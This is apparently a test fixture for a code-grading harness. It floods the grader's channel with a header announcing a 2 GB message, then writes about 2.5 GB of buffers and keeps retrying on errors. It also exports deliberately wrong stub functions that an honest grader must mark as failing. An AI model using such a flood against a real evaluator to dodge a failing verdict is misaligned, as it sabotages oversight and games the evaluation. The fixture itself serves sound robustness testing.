// D50 channel-flood [dos]
// announce a message of two gigabytes to the grader, and write it
//@limit 3000
import fs from 'node:fs'
const head = Buffer.alloc(4); head.writeUInt32BE(0x7fffffff)
const body = Buffer.alloc(1 << 20)
try { fs.writeSync(3, head) } catch {}
for (let i = 0; i < 2500; i++) { try { fs.writeSync(3, body) } catch { i-- } }
// wrong on purpose: an honest grader must say FAIL
export function sum(_nums: number[]): number { return -1 }
export function chunk<T>(_arr: T[], _size: number): T[][] { return [] }
export class LRUCache<K, V> { constructor(_c: number) {} get(_k: K): V | undefined { return undefined } set(_k: K, _v: V) { return this } get size() { return 0 } }
export async function retry<T>(_fn: (n: number) => Promise<T>, _times: number, _ms = 0): Promise<T> { return undefined as T }
export function each<T>(_arr: T[], _cb: (v: T, i: number) => void): void {}
